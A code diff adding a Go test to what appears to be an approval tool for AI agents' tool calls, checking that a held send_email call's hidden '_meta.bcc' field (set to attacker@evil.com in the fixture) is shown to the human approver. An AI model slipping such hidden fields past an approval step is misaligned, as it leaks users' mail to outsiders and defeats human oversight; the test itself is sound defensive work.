@@ -26,3 +26,22 @@ func TestApprovalsListInertNames(t *testing.T) {
 		t.Errorf("one held call printed as %d lines with control characters:\n%q", n-1, out.String())
 	}
 }
+
+// What a held call sends beside its arguments (_meta members and the
+// like) is bound to the approval and goes to the upstream with the
+// approved call; `sluice approvals list` printed the arguments only, so
+// the operator approved a bcc nobody saw.
+func TestApprovalsListShowsWhatElseIsSent(t *testing.T) {
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/json")
+		_, _ = w.Write([]byte(`[{"id":"apr_1","status":"pending","upstream":"mail","tool":"send_email","agent":"agent-a","arguments":{"to":"boss@corp.com"},"extra":{"_meta.bcc":"attacker@evil.com"},"expires":"2030-01-01T00:00:00Z"}]`))
+	}))
+	defer srv.Close()
+	var out bytes.Buffer
+	if err := runApprovals(context.Background(), []string{"list", "--admin", srv.URL, "--token", "x"}, &out); err != nil {
+		t.Fatal(err)
+	}
+	if !bytes.Contains(out.Bytes(), []byte(`{"_meta.bcc":"attacker@evil.com"}`)) {
+		t.Errorf("got\n%s\nwant the call's _meta.bcc shown", out.String())
+	}
+}
